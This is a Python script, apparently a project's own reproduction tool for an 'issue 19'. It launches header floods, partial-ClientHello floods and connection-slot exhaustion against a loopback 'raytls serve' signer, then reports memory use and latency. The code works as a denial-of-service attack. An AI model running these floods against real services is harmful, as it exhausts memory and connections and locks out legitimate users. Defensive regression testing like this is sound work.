#!/usr/bin/env python3
"""signer-flood.py - reproduce issue 19's connection-level attacks on a running `raytls serve`
and print what they cost it (one JSON object). Loopback only; the signer's PID is read for its
memory (/proc/PID/status VmHWM = peak RSS, VmRSS = now).

  headers  N TLS connections from one source, each sending one request whose header is SIZE
           bytes, all open at once (issue 19 item 2: 330 x 400 KB took the signer to 148 MB).
  hello    N TCP connections from one source, each sending SIZE bytes (at most ~64 KB) of a
           TLS ClientHello that claims 64 KiB (the largest handshake message rustls buffers)
           and then nothing, held open.
  hold     N idle TCP connections from source A, held; then one GET /healthz over TLS from
           source B: its status and latency (issue 19 item 5: B waited for the handshake
           timeout, or failed, while A held every slot).

  scripts/signer-flood.py --pid PID --port PORT --ca ca.crt headers --conns 330 --size 400000
  scripts/signer-flood.py --pid PID --port PORT --ca ca.crt hello --conns 1024 --size 60000
  scripts/signer-flood.py --pid PID --port PORT --ca ca.crt hold --conns 1024
"""
import argparse
import asyncio
import json
import resource
import ssl
import struct
import sys
import time


def mem(pid):
    out = {}
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            k, _, v = line.partition(":")
            if k in ("VmHWM", "VmRSS"):
                out[k] = round(int(v.split()[0]) / 1024, 1)
    return out


def tls_context(ca):
    ctx = ssl.create_default_context(cafile=ca)
    ctx.check_hostname = False
    return ctx


async def one_header_flood(a, ctx, size, results):
    try:
        r, w = await asyncio.wait_for(
            asyncio.open_connection(a.host, a.port, ssl=ctx, local_addr=(a.source, 0)), 15)
    except Exception as e:  # noqa: BLE001 - any failure is an outcome to count
        results[f"connect: {type(e).__name__}"] = results.get(f"connect: {type(e).__name__}", 0) + 1
        return None
    head = b"GET /healthz HTTP/1.1\r\nHost: x\r\nX-Flood: "
    try:
        w.write(head + b"a" * size + b"\r\n\r\n")
        await asyncio.wait_for(w.drain(), 15)
        line = await asyncio.wait_for(r.readline(), 15)
        status = line.split(b" ")[1].decode() if line.count(b" ") >= 1 else "closed"
    except Exception as e:  # noqa: BLE001
        status = f"error {type(e).__name__}"
    results[status] = results.get(status, 0) + 1
    return w


async def headers(a):
    ctx = tls_context(a.ca)
    results = {}
    before = mem(a.pid)
    t = time.monotonic()
    writers = await asyncio.gather(*(one_header_flood(a, ctx, a.size, results) for _ in range(a.conns)))
    took = time.monotonic() - t
    during = mem(a.pid)
    for w in writers:
        if w is not None:
            w.close()
    await asyncio.sleep(2)
    return {"mode": "headers", "conns": a.conns, "header_bytes": a.size, "answers": results,
            "seconds": round(took, 2), "rss_mb_before": before["VmRSS"],
            "peak_rss_mb": during["VmHWM"], "rss_mb_after_close": mem(a.pid)["VmRSS"]}


def client_hello_fragments(size, total=65000, record=16000):
    """The first `size` bytes of a ClientHello that claims `total` bytes and never ends."""
    body = struct.pack(">B", 1) + total.to_bytes(3, "big") + b"\x03\x03" + b"\x00" * (total - 2)
    sent = body[: min(size, total - 1000)]  # never the end
    return b"".join(b"\x16\x03\x01" + struct.pack(">H", len(sent[i:i + record])) + sent[i:i + record]
                    for i in range(0, len(sent), record))


async def hello(a):
    data = client_hello_fragments(a.size)
    socks = []
    before = mem(a.pid)
    for _ in range(a.conns):
        try:
            r, w = await asyncio.wait_for(
                asyncio.open_connection(a.host, a.port, local_addr=(a.source, 0)), 5)
            w.write(data)
            socks.append(w)
        except Exception:  # noqa: BLE001
            pass
    await asyncio.gather(*(w.drain() for w in socks), return_exceptions=True)
    await asyncio.sleep(2)
    during = mem(a.pid)
    for w in socks:
        w.close()
    await asyncio.sleep(1)
    return {"mode": "hello", "conns": a.conns, "hello_bytes": len(data), "opened": len(socks), "rss_mb_before": before["VmRSS"],
            "peak_rss_mb": during["VmHWM"], "rss_mb_after_close": mem(a.pid)["VmRSS"]}


async def hold(a):
    socks = []
    for _ in range(a.conns):
        try:
            _, w = await asyncio.wait_for(
                asyncio.open_connection(a.host, a.port, local_addr=(a.source, 0)), 5)
            socks.append(w)
        except Exception:  # noqa: BLE001
            break
    await asyncio.sleep(0.5)
    ctx = tls_context(a.ca)
    t = time.monotonic()
    try:
        r, w = await asyncio.wait_for(
            asyncio.open_connection(a.host, a.port, ssl=ctx, local_addr=(a.other, 0)), 30)
        w.write(b"GET /healthz HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
        line = await asyncio.wait_for(r.readline(), 30)
        status = line.split(b" ")[1].decode() if line else "closed"
    except Exception as e:  # noqa: BLE001
        status = f"error {type(e).__name__}: {e}"
    ms = round((time.monotonic() - t) * 1000, 1)
    for w in socks:
        w.close()
    return {"mode": "hold", "held_from": a.source, "held": len(socks), "other": a.other,
            "other_status": status, "other_ms": ms}


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("--pid", type=int, required=True)
    p.add_argument("--host", default="127.0.0.1")
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--ca", required=True)
    p.add_argument("--source", default="127.0.0.9", help="the flooding peer's address")
    p.add_argument("--other", default="127.0.0.10", help="hold: the other peer's address")
    p.add_argument("mode", choices=["headers", "hello", "hold"])
    p.add_argument("--conns", type=int, default=330)
    p.add_argument("--size", type=int, default=400_000)
    a = p.parse_args()
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (max(soft, min(hard, 8192)), hard))
    out = asyncio.run({"headers": headers, "hello": hello, "hold": hold}[a.mode](a))
    json.dump(out, sys.stdout)
    print()


if __name__ == "__main__":
    main()
